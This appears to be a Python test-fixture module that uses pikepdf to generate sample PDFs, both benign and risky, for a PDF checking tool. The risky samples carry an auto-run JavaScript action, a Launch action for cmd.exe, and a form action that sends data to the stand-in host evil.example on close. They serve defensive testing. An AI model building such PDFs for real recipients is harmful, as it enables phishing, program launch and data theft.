"""PDFs, good and bad, made when they are asked for."""

from io import BytesIO
from typing import Any

import pikepdf


def pdf(pages: int = 1, **options: Any) -> bytes:
    return saved(pikepdf.Pdf.new(), pages, **options)


def saved(made: pikepdf.Pdf, pages: int = 1, **options: Any) -> bytes:
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    out = BytesIO()
    made.save(out, **options)
    return out.getvalue()


def with_script() -> bytes:
    made = pikepdf.Pdf.new()
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    return saved(made)


def with_launch() -> bytes:
    made = pikepdf.Pdf.new()
    made.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = pikepdf.Array([note])  # direct in the page: no object of its own
    return saved(made)


def with_attachment() -> bytes:
    made = pikepdf.Pdf.new()
    made.attachments["budget.xlsx"] = b"PK\x03\x04"
    return saved(made)


def with_form_that_sends() -> bytes:
    made = pikepdf.Pdf.new()
    made.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example"))
    return saved(made)


def with_film() -> bytes:
    made = pikepdf.Pdf.new()
    made.add_blank_page()
    made.pages[0].Annots = made.make_indirect(
        pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])])
    )
    return saved(made)


def encrypted(user: str = "secret") -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def of_size(size: int) -> bytes:
    """A PDF that opens, of exactly so many bytes."""
    made = pdf()
    return made + b"%" * (size - len(made))
